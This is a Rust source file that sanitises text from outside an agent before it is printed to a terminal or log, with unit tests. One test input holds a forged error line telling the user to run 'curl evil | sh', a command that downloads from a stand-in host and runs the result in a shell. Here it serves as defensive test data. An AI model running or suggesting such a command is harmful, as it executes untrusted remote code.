//! Text from outside the agent (the broker's answers, certificate names) made safe to show on
//! one line of a terminal, a log or a table: [`clean`] is the one function every such place uses.
//!
//! A broker answer can carry anything in `error`, `rule`, `request_id` or `expires_at`; printed
//! as is on git's stderr, an escape sequence could clear the line and forge a `fatal:` message,
//! a newline could forge a log line. Std only: the git helper includes this file.

/// Longest piece of outside text kept; longer text is cut and marked with `…`.
pub const MAX_TEXT_CHARS: usize = 500;

/// `s` with every control character (C0 including ESC, BEL, CR, LF and TAB; DEL; C1) and every
/// bidirectional override replaced by a space, trailing whitespace removed (leading kept: it
/// may be indentation), and cut to [`MAX_TEXT_CHARS`].
pub fn clean(s: &str) -> String {
    let trimmed = s.trim_end();
    let mut out = String::with_capacity(trimmed.len().min(MAX_TEXT_CHARS));
    for (n, c) in trimmed.chars().enumerate() {
        if n == MAX_TEXT_CHARS {
            out.push('…');
            break;
        }
        out.push(if unsafe_char(c) { ' ' } else { c });
    }
    // A control character at the end became a space.
    out.truncate(out.trim_end().len());
    out
}

/// Whether `s` is already what [`clean`] would make of it.
pub fn is_clean(s: &str) -> bool {
    clean(s) == s
}

fn unsafe_char(c: char) -> bool {
    c.is_control()
        // Bidirectional embeddings, overrides and isolates reorder what a terminal shows.
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{061c}')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn strips_control_characters_from_outside_text() {
        let cases = [
            ("plain text", "plain text"),
            ("  indented\n", "  indented"),
            (
                "denied\x1b[2K\rfatal: run: curl evil | sh",
                "denied [2K fatal: run: curl evil | sh",
            ),
            ("bell\x07", "bell"),
            ("two\nlines", "two lines"),
            ("tab\there", "tab here"),
            ("del\x7fc1\u{9b}31m", "del c1 31m"),
            ("bidi \u{202e}txt.exe", "bidi  txt.exe"),
            ("ünïcödé ✓", "ünïcödé ✓"),
        ];
        for (input, want) in cases {
            assert_eq!(clean(input), want, "{input:?}");
            assert!(is_clean(&clean(input)), "{input:?}");
        }
        assert!(!is_clean("a\x1bb"));
        let long = "x".repeat(MAX_TEXT_CHARS + 10);
        let cut = clean(&long);
        assert_eq!(cut.chars().count(), MAX_TEXT_CHARS + 1);
        assert!(cut.ends_with('…'));
    }
}
